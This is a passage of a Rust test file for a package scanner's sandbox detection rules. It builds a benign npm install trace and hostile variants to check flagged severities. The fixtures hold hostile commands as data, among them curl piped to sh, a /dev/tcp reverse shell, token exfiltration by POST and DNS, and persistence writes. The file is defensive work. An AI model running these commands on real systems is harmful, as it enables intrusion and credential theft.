//! One constructed sandbox record that triggers each dynamic rule and one that must not
//! (a realistic benign install: npm's own `sh -c`, node-gyp with make and a compiler, a
//! registry-only network trace, writes to ~/.npm/_cacache and node_modules), with a
//! snapshot of what the rule reports. Malicious shapes use reserved names (`*.example`,
//! `*.invalid`) and documentation addresses.

use dsca_model::dynamic::{
    Connection, DnsQuery, DroppedEvents, DynamicAnalysis, Exec, Exfiltration, FileEvent, FileOp,
    HoneytokenRead, HttpRequest, PhaseResult, PhaseStatus, Process, SandboxInfo,
};
use dsca_model::{Finding, Severity};
use dsca_rules::{analyse_dynamic, catalogue, rule_by_id};
use insta::assert_yaml_snapshot;

const HOME: &str = "/home/user";
const PROJECT: &str = "/home/user/project";
const RESOLVER: &str = "10.0.2.3";
const PROXY: &str = "10.0.2.2";

fn exec(time_ms: u64, argv: &[&str]) -> Exec {
    let program = argv.first().copied().unwrap_or_default();
    Exec {
        path: if program.starts_with('/') {
            program.to_string()
        } else {
            format!("/usr/bin/{program}")
        },
        argv: argv.iter().map(|a| a.to_string()).collect(),
        time_ms,
    }
}

fn process(pid: u32, ppid: Option<u32>, phase: &str, execs: Vec<Exec>) -> Process {
    Process {
        pid,
        ppid,
        phase: phase.into(),
        execs,
        cwd: Some(PROJECT.into()),
        end: Some("exited 0".into()),
        outlived: false,
    }
}

fn file(op: FileOp, path: &str, pid: u32, time_ms: u64) -> FileEvent {
    FileEvent {
        op,
        path: path.into(),
        target: None,
        error: None,
        pid,
        phase: "install".into(),
        time_ms,
    }
}

fn dns(name: &str, qtype: &str, resolver: &str, pid: u32, registry: bool) -> DnsQuery {
    DnsQuery {
        phase: String::new(),
        name: name.into(),
        qtype: qtype.into(),
        transport: "udp".into(),
        resolver: format!("{resolver}:53"),
        time_ms: 10,
        pid: Some(pid),
        registry,
        answer: if registry {
            PROXY.into()
        } else {
            "192.0.2.1".into()
        },
    }
}

fn request(method: &str, url: &str, registry: bool) -> HttpRequest {
    let host = url
        .split("://")
        .nth(1)
        .and_then(|rest| rest.split('/').next())
        .unwrap_or_default();
    HttpRequest {
        phase: String::new(),
        url: url.into(),
        method: method.into(),
        host: host.into(),
        headers: vec![("user-agent".into(), "npm/10.8.2 node/v20.17.0".into())],
        body: String::new(),
        body_bytes: 0,
        time_ms: 50,
        destination: if registry {
            format!("{PROXY}:443")
        } else {
            "192.0.2.1:443".into()
        },
        pid: None,
        registry,
        status: 200,
        probe: false,
        fetched: None,
    }
}

fn phase(name: &str, command: &[&str]) -> PhaseResult {
    PhaseResult {
        name: name.into(),
        command: command.iter().map(|c| c.to_string()).collect(),
        status: PhaseStatus::Completed,
        exit_code: Some(0),
        duration_ms: 4_200,
        timeout_ms: 0,
        clock_offset_days: None,
        busy_ms_at_timeout: None,
        calls_began_ms: None,
        stdout_tail: "added 1 package in 4s\n".into(),
        stderr_tail: String::new(),
        error: None,
    }
}

/// A clean install of a native addon: npm reads its config, fetches from the registry
/// proxy, runs `node-gyp rebuild` through `sh -c`, which runs python3 (gyp), make and
/// the compiler; then the import phase loads the package.
fn benign() -> DynamicAnalysis {
    let npm = ["npm", "install", "--no-audit", "demo-pkg"];
    let import = ["node", "-e", "require('demo-pkg')"];
    DynamicAnalysis {
        sandbox: SandboxInfo {
            namespaces: ["user", "mount", "pid", "net", "uts", "ipc"]
                .map(String::from)
                .to_vec(),
            tracer: "strace".into(),
            hostname: "sandbox".into(),
            user: "user".into(),
            registry_hosts: vec!["registry.npmjs.org".into()],
            all_ports: true,
            home: HOME.into(),
            project_dir: PROJECT.into(),
            resolver: RESOLVER.into(),
            timezone: String::new(),
            skipped_phases: Vec::new(),
            memory: None,
            memory_limit_missing: String::new(),
        },
        domains_outside_registry: Vec::new(),
        phases: vec![phase("install", &npm), phase("import", &import)],
        dns: vec![
            dns("registry.npmjs.org", "A", RESOLVER, 1, true),
            dns("registry.npmjs.org", "AAAA", RESOLVER, 1, true),
        ],
        connections: vec![Connection {
            phase: String::new(),
            protocol: "tcp".into(),
            destination: PROXY.into(),
            port: 443,
            name: Some("registry.npmjs.org".into()),
            time_ms: 20,
            pid: Some(1),
            kind: "registry".into(),
            sni: Some("registry.npmjs.org".into()),
            first_bytes: String::new(),
            bytes_received: 4_096,
        }],
        http: vec![
            request("GET", "https://registry.npmjs.org/demo-pkg", true),
            request(
                "GET",
                "https://registry.npmjs.org/demo-pkg/-/demo-pkg-1.0.0.tgz",
                true,
            ),
        ],
        processes: vec![
            process(1, None, "install", vec![exec(0, &npm)]),
            process(
                2,
                Some(1),
                "install",
                vec![exec(100, &["sh", "-c", "node-gyp rebuild"])],
            ),
            process(
                3,
                Some(2),
                "install",
                vec![exec(
                    110,
                    &[
                        "node",
                        "/usr/lib/node_modules/npm/node_modules/node-gyp/bin/node-gyp.js",
                        "rebuild",
                    ],
                )],
            ),
            process(
                4,
                Some(3),
                "install",
                vec![exec(
                    120,
                    &[
                        "python3",
                        "-c",
                        "import sys; sys.stdout.write(sys.executable)",
                    ],
                )],
            ),
            process(
                5,
                Some(3),
                "install",
                vec![exec(
                    130,
                    &[
                        "python3",
                        "/usr/lib/node_modules/npm/node_modules/node-gyp/gyp/gyp_main.py",
                        "binding.gyp",
                    ],
                )],
            ),
            process(
                6,
                Some(3),
                "install",
                vec![exec(200, &["make", "BUILDTYPE=Release", "-C", "build"])],
            ),
            process(
                7,
                Some(6),
                "install",
                vec![exec(
                    210,
                    &[
                        "g++",
                        "-o",
                        "Release/obj.target/addon/addon.o",
                        "-c",
                        "../addon.cc",
                    ],
                )],
            ),
            process(8, Some(1), "install", vec![exec(90, &["git", "--version"])]),
            process(20, None, "import", vec![exec(5_000, &import)]),
        ],
        files: vec![
            file(FileOp::Read, "/home/user/.npmrc", 1, 5),
            file(FileOp::Read, "/home/user/project/.npmrc", 1, 6),
            file(
                FileOp::Create,
                "/home/user/.npm/_cacache/index-v5/ab/cd",
                1,
                30,
            ),
            file(
                FileOp::Write,
                "/home/user/.npm/_logs/2026-12-01-debug-0.log",
                1,
                31,
            ),
            file(
                FileOp::Create,
                "/home/user/project/node_modules/demo-pkg/package.json",
                1,
                40,
            ),
            file(FileOp::Write, "/home/user/project/package-lock.json", 1, 41),
            file(
                FileOp::Create,
                "/home/user/.cache/node-gyp/20.17.0/include/node/node.h",
                3,
                115,
            ),
            file(
                FileOp::Create,
                "build/Release/obj.target/addon/addon.o",
                7,
                220,
            ),
            file(FileOp::Write, "/tmp/npm-1234/build.log", 3, 230),
            file(FileOp::Write, "/dev/null", 6, 240),
            file(
                FileOp::Read,
                "/home/user/project/node_modules/demo-pkg/index.js",
                20,
                5_010,
            ),
        ],
        honeytokens: dsca_model::dynamic::Honeytokens {
            planted: vec!["~/.npmrc (npm token)".into(), "env NPM_TOKEN".into()],
            reads: vec![HoneytokenRead {
                phase: "install".into(),
                path: "~/.npmrc".into(),
                pid: 1,
                process: "npm install --no-audit demo-pkg".into(),
                time_ms: 5,
            }],
            exfiltrations: Vec::new(),
        },
        probes: Vec::new(),
        dropped: Vec::new(),
    }
}

/// What the dynamic rules say of `run`, once every finding is checked against its
/// rule's documented severities. What only a called export did weighs low whatever the
/// rule (see `dynamic::analyse`).
fn judged(run: &DynamicAnalysis) -> dsca_rules::Analysis {
    let analysis = analyse_dynamic(run);
    for finding in &analysis.findings {
        let rule = rule_by_id(&finding.rule).expect("a catalogued rule");
        let called =
            finding.message.starts_with("when dsca called") && finding.severity == Severity::Low;
        assert!(
            called || rule.severities.contains(&finding.severity),
            "{} raised at {}, which its `severities` do not list: {}",
            rule.id,
            finding.severity,
            finding.message
        );
    }
    analysis
}

/// The findings of one rule over a run.
fn findings(run: &DynamicAnalysis, rule: &str) -> Vec<Finding> {
    judged(run)
        .findings
        .into_iter()
        .filter(|f| f.rule == rule)
        .collect()
}

/// The benign run with a postinstall script process (pid 30, a child of `sh -c`).
fn with_script(mut run: DynamicAnalysis, script: &str, children: Vec<Process>) -> DynamicAnalysis {
    run.processes.push(process(
        29,
        Some(1),
        "install",
        vec![exec(300, &["sh", "-c", script])],
    ));
    run.processes.extend(children);
    run
}

/// The benign run whose postinstall runs `node setup.js` (pid 30).
fn running_setup_js() -> DynamicAnalysis {
    with_script(
        benign(),
        "node setup.js",
        vec![process(
            30,
            Some(29),
            "install",
            vec![exec(310, &["node", "setup.js"])],
        )],
    )
}

#[test]
fn a_benign_install_is_clean() {
    let analysis = judged(&benign());
    assert_eq!(analysis.findings, Vec::<Finding>::new());
    let ids: Vec<&str> = analysis.behaviours.iter().map(|b| b.id.as_str()).collect();
    assert_eq!(
        ids,
        [
            "dynamic.connections",
            "dynamic.http",
            "dynamic.programs",
            "dynamic.bait-read"
        ]
    );
}

#[test]
fn dynamic_rules_are_catalogued() {
    let ids: Vec<&str> = catalogue().iter().map(|r| r.id).collect();
    for n in 1001..=1014 {
        let id = format!("DSCA{n}");
        assert!(rule_by_id(&id).is_some(), "{id}");
    }
    // Numeric order: the four-digit ids come after every three-digit one.
    assert_eq!(ids.last(), Some(&"DSCA1014"));
}

// DSCA1001 dns-lookup-outside-registry

#[test]
fn dsca1001_exfiltration_names_and_a_hard_coded_resolver() {
    let mut run = running_setup_js();
    run.dns.push(dns("abc.oast.fun", "A", RESOLVER, 30, false));
    run.dns.push(dns(
        "6e706d5f746f6b656e3d61626364656667.x.exfil.example",
        "A",
        RESOLVER,
        30,
        false,
    ));
    run.dns.push(dns("c2.example", "TXT", "8.8.8.8", 30, false));
    run.dns.push(dns("c2.example", "TXT", "8.8.8.8", 30, false));
    let found = findings(&run, "DSCA1001");
    assert_yaml_snapshot!(found);
    assert_eq!(found[0].severity, Severity::High);
}

#[test]
fn dsca1001_a_plain_lookup_is_medium_and_node_headers_low() {
    let mut run = benign();
    run.dns.push(dns("api.example", "A", RESOLVER, 3, false));
    assert_eq!(findings(&run, "DSCA1001")[0].severity, Severity::Medium);
    let mut run = benign();
    run.dns.push(dns("nodejs.org", "A", RESOLVER, 3, false));
    assert_eq!(findings(&run, "DSCA1001")[0].severity, Severity::Low);
    assert!(findings(&benign(), "DSCA1001").is_empty());
}

#[test]
fn dsca1001_many_names_under_one_domain_is_tunnelling_and_evidence_is_bounded() {
    let mut run = benign();
    for i in 0..30 {
        run.dns
            .push(dns(&format!("p{i}.t.example"), "A", RESOLVER, 3, false));
    }
    let found = findings(&run, "DSCA1001");
    assert_eq!(found[0].severity, Severity::High);
    assert_eq!(found[0].evidence.len(), 21);
    assert_eq!(found[0].evidence[20].detail, "and 10 more");
}

// DSCA1002 ip-literal-connection

#[test]
fn dsca1002_connection_to_a_bare_address() {
    let mut run = benign();
    run.connections.push(Connection {
        phase: String::new(),
        protocol: "tcp".into(),
        destination: "198.51.100.23".into(),
        port: 4444,
        name: None,
        time_ms: 400,
        pid: Some(3),
        kind: "raw".into(),
        sni: None,
        first_bytes: "uid=1000(user) gid=1000(user)\\n".into(),
        bytes_received: 31,
    });
    let found = findings(&run, "DSCA1002");
    assert_yaml_snapshot!(found);
    assert_eq!(found[0].severity, Severity::High);
}

#[test]
fn dsca1002_named_loopback_and_registry_connections_are_not_reported() {
    let mut run = benign();
    run.connections.push(Connection {
        phase: String::new(),
        protocol: "tcp".into(),
        destination: "127.0.0.1".into(),
        port: 9229,
        name: None,
        time_ms: 400,
        pid: Some(3),
        kind: "raw".into(),
        sni: None,
        first_bytes: String::new(),
        bytes_received: 0,
    });
    assert!(findings(&run, "DSCA1002").is_empty());
    assert!(findings(&benign(), "DSCA1002").is_empty());
}

// DSCA1003 http-request-outside-registry

#[test]
fn dsca1003_downloads_a_script_and_posts_to_a_webhook() {
    let mut run = benign();
    run.http
        .push(request("GET", "http://198.51.100.7/stage2.sh", false));
    let mut post = request("POST", "https://webhook.site/0000-1111", false);
    post.body = "{\"npmrc\":\"//registry.npmjs.org/:_authToken=npm_bait\"}".into();
    post.body_bytes = 52;
    run.http.push(post);
    let found = findings(&run, "DSCA1003");
    assert_yaml_snapshot!(found);
    assert_eq!(found[0].severity, Severity::High);
}

#[test]
fn dsca1003_registry_requests_are_not_reported_and_headers_download_is_low() {
    assert!(findings(&benign(), "DSCA1003").is_empty());
    let mut run = benign();
    run.http.push(request(
        "GET",
        "https://nodejs.org/download/release/v20.17.0/node-v20.17.0-headers.tar.gz",
        false,
    ));
    assert_eq!(findings(&run, "DSCA1003")[0].severity, Severity::Low);
}

// DSCA1004 download-and-execute

#[test]
fn dsca1004_runs_a_downloaded_file() {
    let mut run = with_script(
        benign(),
        "node setup.js",
        vec![
            process(
                30,
                Some(29),
                "install",
                vec![exec(310, &["node", "setup.js"])],
            ),
            process(
                31,
                Some(30),
                "install",
                vec![exec(400, &["/tmp/.x/update", "--quiet"])],
            ),
        ],
    );
    run.files
        .push(file(FileOp::Create, "/tmp/.x/update", 30, 350));
    run.files
        .push(file(FileOp::MakeExecutable, "/tmp/.x/update", 30, 360));
    run.http
        .push(request("GET", "http://198.51.100.7/update", false));
    let found = findings(&run, "DSCA1004");
    assert_yaml_snapshot!(found);
    assert_eq!(found[0].severity, Severity::Critical);
}

#[test]
fn dsca1004_curl_piped_to_a_shell() {
    let run = with_script(
        benign(),
        "curl -fsSL https://get.example/i | sh",
        Vec::new(),
    );
    let found = findings(&run, "DSCA1004");
    assert_eq!(found.len(), 1);
    // Nothing answered outside the registry in this record: high, not critical.
    assert_eq!(found[0].severity, Severity::High);
}

#[test]
fn dsca1004_running_installed_package_files_is_normal() {
    let mut run = with_script(
        benign(),
        "node install.js",
        vec![process(
            30,
            Some(29),
            "install",
            vec![exec(310, &["node", "node_modules/demo-pkg/install.js"])],
        )],
    );
    run.files.push(file(
        FileOp::Create,
        "/home/user/project/node_modules/demo-pkg/install.js",
        1,
        40,
    ));
    assert!(findings(&run, "DSCA1004").is_empty());
    assert!(findings(&benign(), "DSCA1004").is_empty());
}

// DSCA1005 risky-command-executed

#[test]
fn dsca1005_reverse_shell_and_downloader() {
    let run = with_script(
        benign(),
        "curl -s http://198.51.100.7/x -o /tmp/x; bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
        vec![
            process(
                30,
                Some(29),
                "install",
                vec![exec(
                    310,
                    &["curl", "-s", "http://198.51.100.7/x", "-o", "/tmp/x"],
                )],
            ),
            process(31, Some(29), "install", vec![exec(320, &["bash", "-i"])]),
        ],
    );
    let found = findings(&run, "DSCA1005");
    assert_yaml_snapshot!(found);
    assert_eq!(found[0].severity, Severity::Critical);
}

#[test]
fn dsca1005_a_decoder_alone_is_medium() {
    let run = with_script(
        benign(),
        "base64 -d payload.txt > out.js",
        vec![process(
            30,
            Some(29),
            "install",
            vec![exec(310, &["base64", "-d", "payload.txt"])],
        )],
    );
    assert_eq!(findings(&run, "DSCA1005")[0].severity, Severity::Medium);
}

#[test]
fn dsca1005_npm_and_node_gyp_are_normal() {
    assert!(findings(&benign(), "DSCA1005").is_empty());
    let run = with_script(
        benign(),
        "node -e \"try{require('./postinstall')}catch(e){}\"",
        vec![process(
            30,
            Some(29),
            "install",
            vec![exec(
                310,
                &["node", "-e", "try{require('./postinstall')}catch(e){}"],
            )],
        )],
    );
    assert!(findings(&run, "DSCA1005").is_empty());
}

// DSCA1006 write-outside-project

#[test]
fn dsca1006_persistence_in_the_home_directory() {
    let mut run = running_setup_js();
    run.files
        .push(file(FileOp::Write, "/home/user/.bashrc", 30, 330));
    run.files.push(file(
        FileOp::Create,
        "/home/user/.local/bin/helper",
        30,
        340,
    ));
    run.files
        .push(file(FileOp::Write, "../.ssh/authorized_keys", 30, 350));
    let found = findings(&run, "DSCA1006");
    assert_yaml_snapshot!(found);
    assert_eq!(found[0].severity, Severity::Critical);
}

#[test]
fn dsca1006_a_write_elsewhere_is_high_and_npm_places_are_fine() {
    assert!(findings(&benign(), "DSCA1006").is_empty());
    let mut run = benign();
    run.files.push(file(
        FileOp::Create,
        "/home/user/.local/share/x.json",
        3,
        330,
    ));
    assert_eq!(findings(&run, "DSCA1006")[0].severity, Severity::High);
}

#[test]
fn dsca1006_a_write_the_read_only_system_refused_is_still_an_attempt() {
    let mut run = running_setup_js();
    let mut refused = file(FileOp::Create, "/etc/cron.d/updater", 30, 330);
    refused.error = Some("EROFS".into());
    run.files.push(refused);
    let found = findings(&run, "DSCA1006");
    assert_yaml_snapshot!(found);
    assert_eq!(found[0].severity, Severity::Critical);
    assert!(
        found[0].message.starts_with("tried to write"),
        "{}",
        found[0].message
    );
    // A refused write is not a file that could later be run.
    let mut run = running_setup_js();
    let mut refused = file(FileOp::Create, "/usr/local/bin/helper", 30, 330);
    refused.error = Some("EROFS".into());
    run.files.push(refused);
    run.processes.push(process(
        33,
        Some(30),
        "install",
        vec![exec(340, &["/usr/local/bin/helper"])],
    ));
    assert!(findings(&run, "DSCA1004").is_empty());
    assert_eq!(
        findings(&run, "DSCA1006")[0].message,
        "tried to write `/usr/local/bin/helper` outside the project"
    );
}

// DSCA1007 process-outlived-phase

#[test]
fn dsca1007_a_daemon_left_running() {
    let mut daemon = process(
        31,
        Some(30),
        "install",
        vec![exec(400, &["node", "/tmp/.x/miner.js"])],
    );
    daemon.outlived = true;
    daemon.end = None;
    let run = with_script(benign(), "nohup node /tmp/.x/miner.js &", vec![daemon]);
    let found = findings(&run, "DSCA1007");
    assert_yaml_snapshot!(found);
    assert_eq!(found[0].severity, Severity::High);
    assert!(findings(&benign(), "DSCA1007").is_empty());
}

// DSCA1008 credential-file-read

#[test]
fn dsca1008_a_script_reads_bait_and_keys() {
    let mut run = running_setup_js();
    run.honeytokens.reads.push(HoneytokenRead {
        phase: "install".into(),
        path: "~/.npmrc".into(),
        pid: 30,
        process: "node setup.js".into(),
        time_ms: 320,
    });
    run.files
        .push(file(FileOp::Read, "/home/user/.npmrc", 30, 320));
    run.files
        .push(file(FileOp::Read, "/home/user/.ssh/id_ed25519", 30, 321));
    run.files.push(file(
        FileOp::Read,
        "/home/user/.config/google-chrome/Default/Login Data",
        30,
        322,
    ));
    let found = findings(&run, "DSCA1008");
    assert_yaml_snapshot!(found);
    assert_eq!(found[0].severity, Severity::High);
    assert_eq!(
        found[0].evidence.len(),
        3,
        "the bait read and the traced read are one"
    );
}

#[test]
fn dsca1008_looking_for_credential_files_that_are_not_there() {
    let mut run = running_setup_js();
    let mut missing = file(FileOp::Read, "/home/user/.kube/config", 30, 320);
    missing.error = Some("ENOENT".into());
    run.files.push(missing);
    let found = findings(&run, "DSCA1008");
    assert_yaml_snapshot!(found);
    assert_eq!(found[0].severity, Severity::Medium);
    assert!(
        found[0].message.starts_with("looked for"),
        "{}",
        found[0].message
    );
}

#[test]
fn dsca1008_npm_reading_its_own_config_is_normal() {
    // The benign run has npm (pid 1) reading ~/.npmrc, bait included, before its scripts.
    assert!(findings(&benign(), "DSCA1008").is_empty());
    // The same read after npm started a lifecycle script counts.
    let mut run = benign();
    run.files
        .push(file(FileOp::Read, "/home/user/.npmrc", 1, 500));
    assert_eq!(findings(&run, "DSCA1008")[0].severity, Severity::High);
}

#[test]
fn dsca1008_an_npm_a_script_runs_reading_the_token_is_medium() {
    // dash replaces itself with the last command: one pid, two programs.
    let mut run = benign();
    run.processes.push(process(
        29,
        Some(1),
        "install",
        vec![
            exec(300, &["sh", "-c", "npm run build"]),
            exec(301, &["npm", "run", "build"]),
        ],
    ));
    run.files
        .push(file(FileOp::Read, "/home/user/.npmrc", 29, 305));
    let found = findings(&run, "DSCA1008");
    assert_eq!(found[0].severity, Severity::Medium);
    assert!(
        found[0].evidence[0]
            .detail
            .contains("an npm command a script ran")
    );
}

// DSCA1009 credential-exfiltration

#[test]
fn dsca1009_a_bait_token_leaves_over_dns() {
    let mut run = benign();
    run.honeytokens.exfiltrations.push(Exfiltration {
        phase: "install".into(),
        token: "NPM_TOKEN".into(),
        encoding: "hex".into(),
        channel: "dns".into(),
        destination: "6e706d5f.x.exfil.example".into(),
        pid: Some(30),
        time_ms: 420,
    });
    let found = findings(&run, "DSCA1009");
    assert_yaml_snapshot!(found);
    assert_eq!(found[0].severity, Severity::Critical);
    assert!(findings(&benign(), "DSCA1009").is_empty());
}

// DSCA1010 phase-timeout-or-error

#[test]
fn dsca1010_a_timeout_and_dropped_events() {
    let mut run = benign();
    if let Some(install) = run.phases.first_mut() {
        install.status = PhaseStatus::Timeout;
        install.exit_code = None;
        install.duration_ms = 120_000;
        install.stderr_tail = "npm warn deprecated x\nsleeping…\n".into();
    }
    run.dropped.push(DroppedEvents {
        table: "files".into(),
        count: 1_200,
    });
    let found = findings(&run, "DSCA1010");
    assert_yaml_snapshot!(found);
    assert_eq!(found[0].severity, Severity::Low);
    assert!(findings(&benign(), "DSCA1010").is_empty());
}

#[test]
fn behaviours_of_a_busy_run() {
    let mut run = with_script(
        benign(),
        "curl -s http://198.51.100.7/x | sh",
        vec![process(
            30,
            Some(29),
            "install",
            vec![exec(310, &["curl", "-s", "http://198.51.100.7/x"])],
        )],
    );
    run.dns.push(dns("c2.example", "A", RESOLVER, 30, false));
    run.files
        .push(file(FileOp::Write, "/home/user/.profile", 30, 330));
    let analysis = judged(&run);
    assert_yaml_snapshot!(analysis.behaviours);
}

#[test]
fn hostile_records_do_not_panic() {
    let mut run = benign();
    let long = "a.".repeat(5_000);
    run.dns.push(dns(&long, "TYPE65", "[::1]:53", 1, false));
    run.dns.push(dns("", "", "", 1, false));
    run.connections.push(Connection {
        phase: String::new(),
        protocol: String::new(),
        destination: "[".into(),
        port: 0,
        name: None,
        time_ms: 0,
        pid: Some(u32::MAX),
        kind: String::new(),
        sni: Some("\u{202e}".into()),
        first_bytes: "\u{0}".repeat(10),
        bytes_received: u64::MAX,
    });
    run.http.push(request("", "", false));
    run.http.push(request("GET", "http://", false));
    run.http.push(request("GET", "://x/../..", false));
    // A parent loop and an empty argv.
    run.processes
        .push(process(40, Some(41), "install", vec![exec(1, &[])]));
    run.processes.push(process(
        41,
        Some(40),
        "install",
        vec![exec(1, &["sh", "-c", "$($($(`"])],
    ));
    run.files.push(file(FileOp::Rename, "", 40, 1));
    run.files.push(file(FileOp::Write, "../../../../..", 41, 1));
    run.files.push(file(FileOp::Read, "~", 41, 1));
    run.sandbox.home = "relative".into();
    let _ = judged(&run);
    run.sandbox = SandboxInfo::default();
    let _ = judged(&run);
}

/// Indicators of a made-up advisory, matched as the database does: a listed domain or
/// any name under it. (The database's own matcher is tested in dsca-scan.)
#[derive(Debug)]
struct Listed(&'static str);

impl dsca_model::advisory::KnownIndicators for Listed {
    fn find_in(&self, _: &[u8]) -> Vec<(usize, dsca_model::advisory::KnownIndicator)> {
        Vec::new()
    }
    fn lookup(&self, value: &str) -> Vec<dsca_model::advisory::KnownIndicator> {
        let host = value.split("://").last().unwrap_or(value);
        let host = host.split(['/', ':']).next().unwrap_or(host);
        if host == self.0 || host.ends_with(&format!(".{}", self.0)) {
            vec![dsca_model::advisory::KnownIndicator {
                indicator: self.0.into(),
                advisory: "MAL-2026-0001".into(),
                packages: vec!["campaign-pkg".into()],
            }]
        } else {
            Vec::new()
        }
    }
}

#[test]
fn dsca1011_a_lookup_of_a_known_campaign_host_is_critical() {
    let mut run = benign();
    run.dns
        .push(dns("x1.c2.campaign.example", "A", RESOLVER, 40, false));
    let analysis = dsca_rules::analyse_dynamic_with(&run, Some(&Listed("c2.campaign.example")));
    let found: Vec<&Finding> = analysis
        .findings
        .iter()
        .filter(|f| f.rule == "DSCA1011")
        .collect();
    assert_eq!(found.len(), 1, "{:#?}", analysis.findings);
    assert_eq!(found[0].severity, Severity::Critical);
    assert!(
        found[0].message.contains("MAL-2026-0001"),
        "{}",
        found[0].message
    );
    // The registry-only benign install names none of it.
    let quiet = dsca_rules::analyse_dynamic_with(&benign(), Some(&Listed("c2.campaign.example")));
    assert!(quiet.findings.iter().all(|f| f.rule != "DSCA1011"));
}

// DSCA1012 remote-command-executed

fn probed(first_bytes: &str) -> Connection {
    Connection {
        phase: String::new(),
        protocol: "tcp".into(),
        destination: "203.0.113.88".into(),
        port: 4430,
        name: None,
        time_ms: 400,
        pid: Some(3),
        kind: "probed".into(),
        sni: None,
        first_bytes: first_bytes.into(),
        bytes_received: first_bytes.len() as u64,
    }
}

#[test]
fn dsca1012_the_probe_run_as_a_command_or_echoed_back_is_critical() {
    // Run through `exec`: the shell's command line carries the mark.
    let mut run = benign();
    run.connections.push(probed(""));
    run.processes.push(process(
        40,
        Some(3),
        "import",
        vec![exec(
            410,
            &["/bin/sh", "-c", "echo dsca-probe-00112233aabbccdd\n"],
        )],
    ));
    let found = findings(&run, "DSCA1012");
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0].severity, Severity::Critical);
    assert!(
        found[0].message.contains("203.0.113.88:4430"),
        "{}",
        found[0].message
    );
    // Piped into a shell's input: `echo` is a built-in, only its output comes back.
    let mut piped = benign();
    piped
        .connections
        .push(probed("dsca-probe-00112233aabbccdd\\n"));
    assert_eq!(findings(&piped, "DSCA1012").len(), 1);
}

#[test]
fn dsca1012_a_probed_client_that_runs_nothing_is_not_reported() {
    let mut run = benign();
    run.connections.push(probed(""));
    assert!(findings(&run, "DSCA1012").is_empty());
    // The mark in a connection the sandbox did not probe proves nothing.
    let mut unprobed = benign();
    let mut raw = probed("dsca-probe-00112233aabbccdd");
    raw.kind = "raw".into();
    unprobed.connections.push(raw);
    assert!(findings(&unprobed, "DSCA1012").is_empty());
}

// DSCA1013 time-triggered-behaviour

/// The benign run with the time-bomb pass after the import: the same command again,
/// its clock 400 days ahead.
fn with_later_pass() -> DynamicAnalysis {
    let mut run = benign();
    let import = ["node", "-e", "require('demo-pkg')"];
    let mut later = phase("import-later", &import);
    later.clock_offset_days = Some(400);
    run.phases.push(later);
    run.processes
        .push(process(60, None, "import-later", vec![exec(900, &import)]));
    run
}

fn in_phase(mut query: DnsQuery, phase: &str) -> DnsQuery {
    query.phase = phase.into();
    query
}

#[test]
fn dsca1013_reaching_out_only_with_the_clock_ahead_is_high() {
    let mut run = with_later_pass();
    run.dns.push(in_phase(
        dns("beacon.dormant.example", "A", RESOLVER, 60, false),
        "import-later",
    ));
    let mut post = request("POST", "https://beacon.dormant.example/x", false);
    post.phase = "import-later".into();
    run.http.push(post);
    run.processes.push(process(
        61,
        Some(60),
        "import-later",
        vec![exec(950, &["/bin/sh", "-c", "whoami"])],
    ));
    let found = findings(&run, "DSCA1013");
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0].severity, Severity::High);
    assert!(
        found[0].message.contains("400 days ahead"),
        "{}",
        found[0].message
    );
    assert!(
        found[0].message.contains("beacon.dormant.example"),
        "{}",
        found[0].message
    );
    assert!(
        found[0]
            .evidence
            .iter()
            .any(|e| e.detail.contains("ran `sh`"))
    );
}

#[test]
fn dsca1013_the_same_behaviour_on_both_dates_or_a_later_cache_file_is_not_a_time_bomb() {
    // An SDK that looks up its API at import, today and a year ahead alike: the other
    // rules judge the lookup; the date changed nothing.
    let mut run = with_later_pass();
    run.dns.push(in_phase(
        dns("api.vendor.example", "A", RESOLVER, 5, false),
        "import",
    ));
    run.dns.push(in_phase(
        dns("api.vendor.example", "A", RESOLVER, 60, false),
        "import-later",
    ));
    assert!(findings(&run, "DSCA1013").is_empty());
    // A data package that refreshes a file in the project when its data looks old.
    let mut stale = with_later_pass();
    let mut write = file(FileOp::Write, &format!("{PROJECT}/.cache-stamp"), 60, 920);
    write.phase = "import-later".into();
    stale.files.push(write);
    assert!(findings(&stale, "DSCA1013").is_empty());
    // Without the pass (libfaketime missing), nothing to compare.
    let mut alone = benign();
    alone.dns.push(in_phase(
        dns("beacon.dormant.example", "A", RESOLVER, 60, false),
        "import",
    ));
    assert!(findings(&alone, "DSCA1013").is_empty());
}

#[test]
fn dsca1013_a_write_outside_the_project_only_later_is_medium() {
    let mut run = with_later_pass();
    let mut write = file(
        FileOp::Write,
        &format!("{HOME}/Desktop/README.txt"),
        60,
        920,
    );
    write.phase = "import-later".into();
    run.files.push(write);
    let found = findings(&run, "DSCA1013");
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0].severity, Severity::Medium);
}

// DSCA1014 spins-when-loaded

fn timed_out_import(cpu_ms: Option<u64>) -> DynamicAnalysis {
    let mut run = benign();
    let import = run
        .phases
        .iter_mut()
        .find(|p| p.name == "import")
        .expect("an import phase");
    import.status = PhaseStatus::Timeout;
    import.exit_code = None;
    import.duration_ms = 30_020;
    import.busy_ms_at_timeout = cpu_ms;
    run
}

#[test]
fn dsca1014_an_import_that_spins_until_the_limit_is_high() {
    let run = timed_out_import(Some(29_400));
    let found = findings(&run, "DSCA1014");
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0].severity, Severity::High);
    assert!(
        found[0].message.contains("29400 ms of it running"),
        "{}",
        found[0].message
    );
    // Measured against the limit, not the phase's length with the clean-up after it: a
    // one-second limit spun through is a spin.
    let mut short = timed_out_import(Some(950));
    let import = short
        .phases
        .iter_mut()
        .find(|p| p.name == "import")
        .expect("import");
    import.timeout_ms = 1_000;
    import.duration_ms = 3_400;
    assert_eq!(findings(&short, "DSCA1014").len(), 1);
}

#[test]
fn dsca1014_an_import_that_waits_or_an_install_that_spins_is_not_reported() {
    // A module that waits on a socket or a timer at load: time out, little CPU.
    assert!(findings(&timed_out_import(Some(900)), "DSCA1014").is_empty());
    // Older records without the figure.
    assert!(findings(&timed_out_import(None), "DSCA1014").is_empty());
    // A native build that takes the whole install limit compiling is the install's.
    let mut build = benign();
    build.phases[0].status = PhaseStatus::Timeout;
    build.phases[0].duration_ms = 120_000;
    build.phases[0].busy_ms_at_timeout = Some(118_000);
    assert!(findings(&build, "DSCA1014").is_empty());
}

// What an exported function did when dsca called it (the execute phase)

fn with_execute_phase() -> DynamicAnalysis {
    let mut run = benign();
